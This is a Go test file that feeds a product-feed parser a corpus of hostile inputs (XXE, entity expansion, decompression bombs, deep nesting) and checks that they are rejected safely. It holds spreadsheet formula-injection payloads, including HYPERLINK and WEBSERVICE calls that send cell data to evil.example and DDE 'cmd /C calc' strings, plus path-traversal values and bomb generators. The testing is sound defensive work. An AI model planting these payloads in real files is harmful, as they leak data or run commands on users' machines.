package feed

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"testing/iotest"
	"time"

	"github.com/dpa-tools/dpa/feed/limit"
	"github.com/xuri/excelize/v2"
)

// The hostile corpus: small files live in testdata/hostile/, large ones
// are generated here. Each case states the documented behaviour: the
// error Open returns, or the items still read, the Problems and file
// findings they carry and the error that ends the stream.
type hostileCase struct {
	name string
	file string                    // testdata/hostile/<file>; with gen, the name it is written under
	gen  func(t *testing.T) []byte // generated content
	opts ReadOptions

	openErr     string // Open fails with an error containing this
	unsupported bool   // ... that wraps errUnsupportedFormat

	items    int      // items read before EOF or the fatal error
	fatal    string   // the error ending the stream contains this ("" = clean EOF)
	tooLarge bool     // ... and wraps limit.ErrTooLarge
	line     int      // ... at this line (0 = not checked)
	rules    []string // Problem rules of all items, in order
	diags    []string // file findings
	check    func(t *testing.T, res readResult)
}

func hostileCases(t *testing.T, xxeURL string) []hostileCase {
	values := func(want map[int]map[string]string) func(*testing.T, readResult) {
		return func(t *testing.T, res readResult) {
			for i, fields := range want {
				for k, v := range fields {
					if got := res.items[i].Get(k); got != v {
						t.Errorf("item %d %s = %q, want %q (verbatim)", i+1, k, got, v)
					}
				}
			}
		}
	}
	return []hostileCase{
		{name: "empty file", file: "empty.csv", diags: []string{"feed.empty:error"}},
		{name: "header only", file: "header-only.csv", diags: []string{"feed.no_items:error"},
			check: func(t *testing.T, res readResult) {
				if len(res.cols) != 9 || res.cols[8] != "brand" {
					t.Errorf("columns %q", res.cols)
				}
			}},
		{name: "NUL bytes in fields", file: "nul-bytes.csv", items: 3,
			// Read verbatim; the checks report text.control_chars on them.
			check: values(map[int]map[string]string{0: {"title": "Linen\x00Shirt"}, 1: {"title": "\x00\x00\x00"}, 2: {"id": "SKU-3"}})},
		{name: "invalid UTF-8 in every field, detected", file: "invalid-utf8.csv", items: 2, diags: []string{"encoding.detected:info"},
			check: values(map[int]map[string]string{0: {"title": "Café Ã"}, 1: {"description": "naïveõ"}})},
		{name: "invalid UTF-8 in every field, --encoding utf-8", file: "invalid-utf8.csv", opts: ReadOptions{Encoding: "utf-8"}, items: 2,
			rules: []string{ruleInvalidUTF8, ruleInvalidUTF8, ruleInvalidUTF8, ruleInvalidUTF8, ruleInvalidUTF8, ruleInvalidUTF8},
			check: func(t *testing.T, res readResult) {
				if p := res.items[0].Problems[1]; p.Field != "title" || p.Value != `Caf\xe9 \xc3` {
					t.Errorf("problem %+v", p)
				}
			}},
		{name: "mixed line endings", file: "mixed-eol.csv", items: 5,
			check: func(t *testing.T, res readResult) {
				want := []pos{{1, 2, "SKU-1"}, {2, 3, "SKU-2"}, {3, 4, "SKU-3"}, {4, 5, "SKU-4"}, {5, 6, "SKU-5"}}
				if got := positions(res.items); !reflect.DeepEqual(got, want) {
					t.Errorf("positions %v", got)
				}
				if got := res.items[3].Get("title"); got != "quoted\rCR" {
					t.Errorf("a \\r inside quotes must stay: %q", got)
				}
			}},
		{name: "binary file named .csv", file: "binary.csv", openErr: "cannot detect the feed format (binary data)", unsupported: true},
		{name: "unterminated quote", file: "unterminated-quote.csv", items: 1, rules: []string{ruleCSVSyntax},
			check: values(map[int]map[string]string{0: {"description": "starts a quote that never ends\nSKU-2,Throw,fine\nSKU-3,Tee,fine\n"}})},
		{name: "formula injection read verbatim", file: "formula-injection.csv", items: 5, rules: []string{ruleCSVSyntax},
			check: values(map[int]map[string]string{
				0: {"title": `=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
				1: {"title": "+cmd|' /C calc'!A0", "description": "@SUM(1+1)*cmd|' /C calc'!A0"},
				2: {"title": "-2+3+cmd|' /C calc'!A0", "description": "=1+1"},
				3: {"title": "\t=1+1", "description": "\r=1+1", "custom_label_0": `=DDE("cmd";"/C calc";"A1")`},
				4: {"description": "'=1+1", "custom_label_0": "@foo"},
			})},
		{name: "ad set names with ../", file: "adset-traversal.csv", items: 4,
			check: values(map[int]map[string]string{0: {"ad_set_name": "../../../tmp/evil"}, 1: {"custom_label_0": `..\\..\\windows\\system32`}, 3: {"ad_set_name": "a/../../../b"}})},
		{name: "truncated gzip", file: "truncated.csv.gz", items: 963, line: 965,
			fatal: "gzip: the compressed data is truncated: unexpected EOF"},
		{name: "DOCTYPE with billion laughs", file: "doctype-entities.xml", items: 1, line: 17,
			fatal: "invalid character entity &lol9; (entities declared in a DOCTYPE are not expanded"},
		{name: "DOCTYPE with unused entities", file: "doctype-unused.xml", items: 2,
			check: values(map[int]map[string]string{1: {"title": "B & C"}})},
		{name: "external entity to a file", file: "xxe-file.xml", items: 0, line: 4, fatal: "invalid character entity &xxe;"},
		{name: "external entity to a URL", file: "xxe-http.xml", items: 0, line: 4, fatal: "invalid character entity &xxe;",
			gen: func(t *testing.T) []byte {
				return fmt.Appendf(nil, "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [ <!ENTITY xxe SYSTEM %q> ]>\n<rss><channel>\n<item><id>1</id><title>&xxe;</title></item>\n</channel></rss>\n", xxeURL)
			}},
		{name: "10,000 nested XML elements", file: "nested.xml", items: 0, line: 1, fatal: "elements nested deeper than 100",
			gen: func(t *testing.T) []byte {
				return []byte(strings.Repeat("<a>", 10000) + strings.Repeat("</a>", 10000))
			}},
		{name: "10,000 nested XML elements inside an item", file: "nested-item.xml", items: 1, fatal: "elements nested deeper than 100",
			gen: func(t *testing.T) []byte {
				return []byte("<rss><channel><item><id>1</id></item><item>" + strings.Repeat("<a>", 10000) + strings.Repeat("</a>", 10000) + "</item></channel></rss>")
			}},
		{name: "5,000 nested JSON arrays", file: "deep.json", items: 0, line: 1, fatal: "values nested deeper than 100"},
		{name: "XML text node over the record limit", file: "big-text.xml", opts: ReadOptions{MaxRecordBytes: 1 << 20},
			items: 1, fatal: "an XML item or token is larger than the 1 MiB limit", tooLarge: true,
			gen: func(t *testing.T) []byte {
				return []byte("<rss><channel><item><id>1</id></item><item><id>2</id><description>" + strings.Repeat("x", 2<<20) + "</description></item></channel></rss>")
			}},
		{name: "XML comment outside items over the record limit", file: "big-comment.xml", opts: ReadOptions{MaxRecordBytes: 1 << 20},
			items: 0, fatal: "an XML item or token is larger than the 1 MiB limit", tooLarge: true,
			gen: func(t *testing.T) []byte {
				return []byte("<rss><!--" + strings.Repeat("x", 2<<20) + "--><channel></channel></rss>")
			}},
		{name: "CSV field over the record limit", file: "big-field.csv", opts: ReadOptions{MaxRecordBytes: 1 << 20},
			items: 1, line: 3, fatal: "a record is larger than the 1 MiB limit", tooLarge: true,
			gen: func(t *testing.T) []byte {
				// Past one 1 MiB read buffer: a record that arrives in a
				// single read is already in memory and passes.
				return []byte("id,title\n1,ok\n2,\"" + strings.Repeat("x", 4<<20) + "\"\n3,never read\n")
			}},
		{name: "JSON array element over the record limit", file: "big.json", opts: ReadOptions{MaxRecordBytes: 1 << 20},
			items: 1, fatal: "a JSON array element is larger than the 1 MiB limit", tooLarge: true,
			gen: func(t *testing.T) []byte {
				return []byte(`[{"id":"1"},{"id":"2","d":"` + strings.Repeat("x", 2<<20) + `"},{"id":"3"}]`)
			}},
		{name: "JSON Lines line over the record limit is skipped", file: "big.jsonl", opts: ReadOptions{MaxRecordBytes: 1 << 20},
			items: 3, rules: []string{ruleRecordTooLarge},
			gen: func(t *testing.T) []byte {
				return []byte(`{"id":"1"}` + "\n" + `{"id":"2","d":"` + strings.Repeat("x", 2<<20) + `"}` + "\n" + `{"id":"3"}` + "\n")
			},
			check: func(t *testing.T, res readResult) {
				if got := positions(res.items); !reflect.DeepEqual(got, []pos{{1, 1, "1"}, {2, 2, ""}, {3, 3, "3"}}) {
					t.Errorf("positions %v", got)
				}
			}},
		{name: "zip bomb (declared size)", file: "bomb.zip", opts: ReadOptions{MaxBytes: 1 << 20},
			openErr: "zip entry feed.csv (8388607 bytes unpacked) is larger than the 1 MiB limit (--max-bytes)",
			gen: func(t *testing.T) []byte {
				return zipBytes(t, zipEntry{name: "feed.csv", data: bombData(8 << 20)})
			}},
		{name: "gzip bomb", file: "bomb.csv.gz", opts: ReadOptions{MaxBytes: 1 << 20},
			items: 524286, line: 524288, fatal: "the decompressed gzip stream is larger than the 1 MiB limit (--max-bytes)", tooLarge: true,
			gen: func(t *testing.T) []byte { return gzipBytes(t, bombData(64<<20)) }},
		{name: "zstd bomb", file: "bomb.csv.zst", opts: ReadOptions{MaxBytes: 1 << 20},
			items: 524286, fatal: "the decompressed zstd stream is larger than the 1 MiB limit (--max-bytes)", tooLarge: true,
			gen: func(t *testing.T) []byte { return zstdBytes(t, bombData(64<<20)) }},
		{name: "XLSX bomb", file: "bomb.xlsx", opts: ReadOptions{MaxBytes: 256 << 10},
			openErr: "is larger than the 256 KiB limit (--max-bytes)",
			gen: func(t *testing.T) []byte {
				rows := [][]any{{"id", "title"}}
				for i := range 20000 {
					rows = append(rows, []any{i, "the same title again and again"})
				}
				return makeXLSX(t, map[string][][]any{"S": rows}, []string{"S"})
			}},
		// Never evaluated: without a cached value a cell is empty, so rows
		// of uncached formulas are blank rows, skipped like any other.
		{name: "XLSX with a formula in every cell", file: "formulas.xlsx", items: 0, diags: []string{"feed.no_items:error"},
			gen: func(t *testing.T) []byte { return formulaXLSX(t, false) }},
		{name: "XLSX with formulas and cached values", file: "formulas-cached.xlsx", items: 3,
			gen:   func(t *testing.T) []byte { return formulaXLSX(t, true) },
			check: values(map[int]map[string]string{0: {"id": "cached-A2", "title": "cached-B2"}, 2: {"price": "cached-C4"}})},
	}
}

// bombData is a valid CSV of n bytes that compresses about 1000:1.
func bombData(n int) []byte {
	b := make([]byte, 0, n)
	b = append(b, "id\n"...)
	for len(b)+2 <= n {
		b = append(b, "1\n"...)
	}
	return b
}

// formulaXLSX makes a workbook (excelize-generated) whose data cells all
// hold a formula, optionally with the value a spreadsheet application
// would have cached when saving.
func formulaXLSX(t *testing.T, cached bool) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	f.SetSheetRow("Sheet1", "A1", &[]any{"id", "title", "price"})
	for r := 2; r <= 4; r++ {
		for c, formula := range []string{`HYPERLINK("http://evil.example","x")`, `CONCAT("=",1+1)`, `WEBSERVICE("http://evil.example/leak?"&A1)`} {
			cell, _ := excelize.CoordinatesToCellName(c+1, r)
			if err := f.SetCellFormula("Sheet1", cell, formula); err != nil {
				t.Fatal(err)
			}
		}
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	if !cached {
		return buf.Bytes()
	}
	// Add <v> cached values the way Excel stores them.
	re := regexp.MustCompile(`<c r="([A-Z]+[0-9]+)"([^>]*)><f>([^<]*)</f>(<v></v>)?</c>`)
	return rewriteZip(t, buf.Bytes(), "xl/worksheets/sheet1.xml", func(b []byte) []byte {
		out := re.ReplaceAll(b, []byte(`<c r="$1" t="str"><f>$3</f><v>cached-$1</v></c>`))
		if bytes.Equal(out, b) {
			t.Fatalf("no formula cell found in %s", b)
		}
		return out
	})
}

func rewriteZip(t *testing.T, data []byte, name string, fn func([]byte) []byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		if f.Name == name {
			b = fn(b)
		}
		w, err := zw.Create(f.Name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(b)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func TestHostileCorpus(t *testing.T) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, "SECRET-FROM-NETWORK")
	}))
	defer srv.Close()
	dir := t.TempDir()
	for _, tc := range hostileCases(t, srv.URL+"/dtd") {
		t.Run(tc.name, func(t *testing.T) {
			path := filepath.Join("testdata", "hostile", tc.file)
			if tc.gen != nil {
				path = filepath.Join(dir, tc.file)
				if err := os.WriteFile(path, tc.gen(t), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			var before runtime.MemStats
			runtime.ReadMemStats(&before)
			r, err := OpenFile(context.Background(), path, tc.opts)
			if tc.openErr != "" {
				if err == nil {
					r.Close()
					t.Fatalf("Open succeeded, want %q", tc.openErr)
				}
				if !strings.Contains(err.Error(), tc.openErr) || errors.Is(err, errUnsupportedFormat) != tc.unsupported {
					t.Errorf("Open error %q, want %q (unsupported=%v)", err, tc.openErr, tc.unsupported)
				}
				return
			}
			if err != nil {
				t.Fatalf("Open: %v", err)
			}
			res := readAllFrom(t, r)
			var after runtime.MemStats
			runtime.ReadMemStats(&after)
			if len(res.items) != tc.items {
				t.Errorf("%d items, want %d", len(res.items), tc.items)
			}
			switch {
			case tc.fatal == "" && res.err != nil:
				t.Errorf("unexpected error %v", res.err)
			case tc.fatal != "":
				var pe *ParseError
				if res.err == nil || !strings.Contains(res.err.Error(), tc.fatal) || !errors.As(res.err, &pe) {
					t.Errorf("error %v, want a *ParseError containing %q", res.err, tc.fatal)
				} else if tc.line > 0 && pe.Line != tc.line {
					t.Errorf("error at line %d, want %d", pe.Line, tc.line)
				}
				if errors.Is(res.err, limit.ErrTooLarge) != tc.tooLarge {
					t.Errorf("errors.Is(limit.ErrTooLarge) = %v", !tc.tooLarge)
				}
			}
			if got := rules(res.items); !reflect.DeepEqual(got, tc.rules) {
				t.Errorf("problems %v, want %v", got, tc.rules)
			}
			if got := diagRules(res.diags); !reflect.DeepEqual(got, tc.diags) {
				t.Errorf("file findings %v, want %v", got, tc.diags)
			}
			// Whatever the input, no case allocates more than its size
			// plus a few record limits: nothing is expanded or buffered whole.
			if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 256<<20 {
				t.Errorf("allocated %d MiB", alloc>>20)
			}
			for _, it := range res.items {
				for _, f := range it.Fields {
					if strings.Contains(f.Value, "SECRET-FROM-NETWORK") {
						t.Errorf("an external entity was fetched into %s", f.Name)
					}
				}
			}
			if tc.check != nil && len(res.items) == tc.items {
				tc.check(t, res)
			}
		})
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the XML reader made %d network requests", n)
	}
}

func TestCRReader(t *testing.T) {
	tests := []struct{ in, want string }{
		{"a\rb\r\nc\nd\r", "a\nb\r\nc\nd\n"},
		{"a,\"x\ry\"\rb", "a,\"x\ry\"\nb"},
		{"a,\"x\"\"\r\"\r", "a,\"x\"\"\r\"\n"},
		{"a,b\"\rc", "a,b\"\nc"}, // a bare quote inside a field opens nothing
		{"\r\r\n\r", "\n\r\n\n"},
		{"", ""},
	}
	for _, tc := range tests {
		for name, wrap := range map[string]func(io.Reader) io.Reader{
			"whole": func(r io.Reader) io.Reader { return r }, "one byte": iotest.OneByteReader, "half": iotest.HalfReader,
		} {
			got, err := io.ReadAll(&crReader{r: wrap(strings.NewReader(tc.in)), comma: ',', start: true})
			if err != nil || string(got) != tc.want {
				t.Errorf("%s %q → %q (%v), want %q", name, tc.in, got, err, tc.want)
			}
		}
	}
}

// peakHeap samples HeapInuse while fn runs and returns the peak above the
// level before it, and the bytes allocated.
func peakHeap(fn func()) (peak, alloc uint64) {
	runtime.GC()
	var base runtime.MemStats
	runtime.ReadMemStats(&base)
	var max atomic.Uint64
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		tk := time.NewTicker(2 * time.Millisecond)
		defer tk.Stop()
		var m runtime.MemStats
		for {
			runtime.ReadMemStats(&m)
			if m.HeapInuse > max.Load() {
				max.Store(m.HeapInuse)
			}
			select {
			case <-stop:
				return
			case <-tk.C:
			}
		}
	}()
	fn()
	close(stop)
	<-done
	var end runtime.MemStats
	runtime.ReadMemStats(&end)
	if end.HeapInuse > max.Load() {
		max.Store(end.HeapInuse)
	}
	p := max.Load()
	if p < base.HeapInuse {
		return 0, end.TotalAlloc - base.TotalAlloc
	}
	return p - base.HeapInuse, end.TotalAlloc - base.TotalAlloc
}

// writeBigField writes a CSV whose second row has one field of n bytes.
func writeBigField(t *testing.T, path string, n int) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	f.WriteString("id,title,description\nSKU-1,ok,fine\nSKU-2,big,\"")
	chunk := bytes.Repeat([]byte("lorem ipsum "), 1<<16)
	for n > 0 {
		k := min(n, len(chunk))
		if _, err := f.Write(chunk[:k]); err != nil {
			t.Fatal(err)
		}
		n -= k
	}
	f.WriteString("\"\nSKU-3,after,fine\n")
}

// TestHostileMemory reads the two largest cases of the corpus and asserts
// that memory stays bounded. Skipped with -short. The full 100 MB field
// read with the record limit lifted runs only with DPA_HOSTILE_BIG=1.
func TestHostileMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("generates 100 MB of input")
	}
	dir := t.TempDir()
	t.Run("100 MB field", func(t *testing.T) {
		path := filepath.Join(dir, "field.csv")
		writeBigField(t, path, 100<<20)
		var res readResult
		peak, alloc := peakHeap(func() {
			r, err := OpenFile(context.Background(), path, ReadOptions{})
			if err != nil {
				t.Fatal(err)
			}
			res = readAllFrom(t, r)
		})
		t.Logf("peak heap %d MiB, allocated %d MiB", peak>>20, alloc>>20)
		if len(res.items) != 1 || !errors.Is(res.err, limit.ErrTooLarge) || !strings.Contains(res.err.Error(), "field.csv:3: a record is larger than the 16 MiB limit") {
			t.Errorf("%d items, err %v", len(res.items), res.err)
		}
		// encoding/csv holds a record several times over while it grows
		// (about ten times MaxRecordBytes at the peak); reading the whole
		// field would take well over 500 MiB.
		if peak > 256<<20 || alloc > 400<<20 {
			t.Errorf("peak heap %d MiB, allocated %d MiB: the record limit does not bound memory", peak>>20, alloc>>20)
		}
	})
	t.Run("1,000,000 columns", func(t *testing.T) {
		const n = 1_000_000
		var b bytes.Buffer
		for i := range n {
			if i > 0 {
				b.WriteByte(',')
			}
			fmt.Fprintf(&b, "c%d", i)
		}
		b.WriteByte('\n')
		for i := range n {
			if i > 0 {
				b.WriteByte(',')
			}
			b.WriteByte('v')
		}
		b.WriteString("\nshort,row\n")
		path := filepath.Join(dir, "columns.csv")
		if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		b = bytes.Buffer{}
		var res readResult
		peak, alloc := peakHeap(func() {
			r, err := OpenFile(context.Background(), path, ReadOptions{})
			if err != nil {
				t.Fatal(err)
			}
			res = readAllFrom(t, r)
		})
		t.Logf("peak heap %d MiB, allocated %d MiB", peak>>20, alloc>>20)
		if res.err != nil || len(res.items) != 2 || len(res.cols) != n || len(res.items[0].Fields) != n || res.cols[n-1] != "c999999" {
			t.Fatalf("err %v items %d cols %d", res.err, len(res.items), len(res.cols))
		}
		if got := rules(res.items); !reflect.DeepEqual(got, []string{ruleCSVColumnCount}) {
			t.Errorf("problems %v", got)
		}
		res = readResult{}
		if peak > 400<<20 {
			t.Errorf("peak heap %d MiB", peak>>20)
		}
	})
	t.Run("100 MB field read whole", func(t *testing.T) {
		if os.Getenv("DPA_HOSTILE_BIG") != "1" {
			t.Skip("set DPA_HOSTILE_BIG=1: holds the 100 MB field several times over")
		}
		path := filepath.Join(dir, "field.csv")
		var res readResult
		peak, alloc := peakHeap(func() {
			r, err := OpenFile(context.Background(), path, ReadOptions{MaxRecordBytes: -1})
			if err != nil {
				t.Fatal(err)
			}
			res = readAllFrom(t, r)
		})
		t.Logf("peak heap %d MiB, allocated %d MiB", peak>>20, alloc>>20)
		if res.err != nil || len(res.items) != 3 || len(res.items[1].Get("description")) != 100<<20 {
			t.Fatalf("err %v items %d", res.err, len(res.items))
		}
		if peak > 800<<20 {
			t.Errorf("peak heap %d MiB", peak>>20)
		}
	})
}
